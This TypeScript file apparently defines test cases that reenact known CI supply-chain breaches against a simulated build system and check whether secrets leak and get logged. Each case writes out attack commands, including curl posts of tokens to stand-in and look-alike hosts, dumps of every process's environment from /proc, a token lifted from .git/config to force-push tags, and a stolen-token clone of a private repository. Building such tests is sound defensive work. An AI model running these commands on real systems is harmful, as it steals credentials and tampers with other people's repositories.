import type { Breach } from '../breach.ts'

const send = (what: string, to = 'collector.example.net') =>
  `curl -sS -m 8 --data-binary "${what}" "https://${to}/$GITHUB_JOB"`
const environments = `for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done 2>/dev/null`

const pushedWorkflow = 'octo-org/links/.github/workflows/security.yml@refs/heads/main'

/** Secrets taken from where a job has them: environment, memory, files, a public log. */
export const stolen: readonly Breach[] = [
  {
    number: 1,
    name: 'Codecov 2021: an uploader whose script was changed',
    wanted: 'the environment of every customer’s job',
    jobs: [{ role: 'build', clone: true, program: 'curl -sS https://uploader.example.org/upload.sh | bash' }],
    got: ({ arrived, secrets }) =>
      arrived('collector.example.net').some(({ body }) => body.includes(secrets.git)),
    recorded: [/collector\.example\.net:443/],
  },
  {
    number: 2,
    name: 'CircleCI 2023: keys out of a running process',
    wanted: 'what the CI’s agent holds in memory',
    jobs: [{ role: 'build', program: `${environments} | grep -a AGENT_SECRET > loot.txt; exit 0` }],
    got: ({ file, secrets }) => file('loot.txt').includes(secrets.agent),
    recorded: [/step\.finished/],
  },
  {
    number: 3,
    name: 'tj-actions/changed-files 2025: a tag moved to code that prints the runner’s memory, twice in base64',
    wanted: 'secrets in a public log',
    jobs: [
      {
        role: 'build',
        variables: { DEPLOY_PASSWORD: 'deploy-password-of-the-victim-31' },
        program: `git -c credential.helper= clone -q -b v45 "https://\${GIT_TOKEN:+ci-bot:$GIT_TOKEN@}git.example.com/actions/changed-files" action && bash action/action.sh`,
      },
    ],
    got: ({ output, secrets }) =>
      [...output.matchAll(/[A-Za-z0-9+/=]{40,}/g)].some(([text]) => {
        const once = Buffer.from(text, 'base64').toString('latin1')
        const twice = Buffer.from(once, 'base64').toString('latin1')
        return [secrets.agent, 'deploy-password-of-the-victim-31'].some((one) =>
          `${once}${twice}`.includes(one),
        )
      }),
    recorded: [/git:read.*actions\/changed-files|actions\/changed-files.*git:read/],
  },
  {
    number: 10,
    name: 'GhostAction 2025: a workflow pushed that sends the secrets away',
    wanted: 'the secrets that the new workflow names',
    jobs: [
      {
        role: 'deploy',
        claims: { workflow_ref: pushedWorkflow, job_workflow_ref: pushedWorkflow },
        program: send('$NPM_TOKEN $GIT_TOKEN'),
      },
      { role: 'build', program: send('$NPM_TOKEN $GIT_TOKEN') },
    ],
    got: ({ arrived, secrets }) =>
      arrived('collector.example.net').some(({ body }) => body.includes(secrets.npm)),
    recorded: [/session\.refused/, /collector\.example\.net:443/],
  },
  {
    number: 14,
    name: 'Heroku and Travis CI 2022: an integrator’s long-lived token opens private repositories',
    wanted: 'a private repository',
    jobs: [
      {
        role: 'build',
        // Stolen elsewhere, real, and good on the Git host for everything.
        variables: { STOLEN: 'GIT_TOKEN' },
        program:
          'git -c credential.helper= clone -q "https://ci-bot:$STOLEN@git.example.com/octo-org/payroll" p; rev p/salaries.txt; rm -rf p',
      },
    ],
    got: ({ output, secrets }) => output.includes([...secrets.payroll].reverse().join('')),
    recorded: [/octo-org\/payroll/],
  },
  {
    number: 18,
    name: 'trivy-action 2026: a credential left behind moves tags, memory goes to a look-alike domain',
    wanted: 'the tags of everybody who uses the action, and their secrets',
    jobs: [
      {
        role: 'release',
        clone: true,
        program: `TOKEN=$(sed -n 's#.*ci-bot:\\(.*\\)@git.example.com.*#\\1#p' .git/config); git -c user.name=x -c user.email=x@x commit -q --allow-empty -m stealer
for tag in t1 t2 t3 t4 t5; do git tag -f $tag >/dev/null; git push -q -f "https://\${TOKEN:+ci-bot:$TOKEN@}git.example.com/octo-org/links" "refs/tags/$tag"; done
${send(`$TOKEN $(${environments} | grep -a SECRET)`, 'git.examp1e.com')}`,
      },
    ],
    got: ({ arrived, git, secrets }) =>
      git('octo-org/links', 'log', '--tags', '--format=%s').includes('stealer') ||
      arrived('git.examp1e.com').some(({ body }) => body.includes(secrets.git)),
    recorded: [/git\.examp1e\.com:443/, /refs\/tags\/t1/],
  },
]
